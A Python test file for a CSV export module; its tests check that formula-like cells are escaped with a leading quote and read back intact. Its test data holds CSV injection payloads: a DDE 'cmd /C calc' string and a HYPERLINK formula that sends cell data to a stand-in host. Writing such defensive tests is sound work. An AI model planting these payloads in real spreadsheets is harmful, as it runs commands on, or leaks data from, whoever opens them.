"""Cells of a CSV file: no spreadsheet takes one for a formula, and each is read back as it was."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from moving import ODD_TEXTS, event, written

from explorer.exchange.cells import line, number_cell, read_number, read_text, text_cell

RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    *(f"{begin}cmd|' /C calc'!A0" for begin in RUN_BY_SPREADSHEETS),
    '=HYPERLINK("http://x/?"&A1)',
    "==1",
    "\t=1",
    "\r\n=1",
)


@pytest.mark.parametrize("text", [*ODD_TEXTS, *FORMULAS])
def test_a_text_is_read_back_as_it_was(text):
    assert read_text(text_cell(text)) == text
    assert read_number(number_cell(text)) == text


@pytest.mark.parametrize("number", [0, -1, 12, 2**63 - 1])
def test_a_number_is_told_from_a_text_of_digits(number):
    assert read_number(number_cell(number)) == number
    assert read_number(number_cell(str(number))) == str(number)


def test_nothing_is_told_from_an_empty_text():
    assert (text_cell(None), read_text("")) == ("", None)
    assert (text_cell(""), read_text("'")) == ("'", "")


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_begins_like_a_formula(formula):
    assert formula.startswith(RUN_BY_SPREADSHEETS)  # the control: left alone it would be run
    assert text_cell(formula) == f"'{formula}"


@given(cells=st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=8), min_size=2, max_size=4))
def test_a_line_has_the_cells_it_was_made_of(cells):
    (read,) = csv.reader(StringIO(line(cells), newline=""), strict=True)
    assert read == cells


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_an_exported_event_is_a_formula(formula, tmp_path):
    risky = event(
        stream=formula, category=formula, type=formula, position=formula, time=formula, event_id=formula,
        data=formula, metadata={formula: formula}, correlation_id=formula, flags=(formula,), tenant=formula,
    )  # fmt: skip
    text = written([risky], tmp_path / "x.csv", "csv").decode()
    _, cells = csv.reader(StringIO(text, newline=""))
    assert [cell for cell in cells if cell.startswith(RUN_BY_SPREADSHEETS)] == []
    assert sum(formula in cell for cell in cells) >= 6
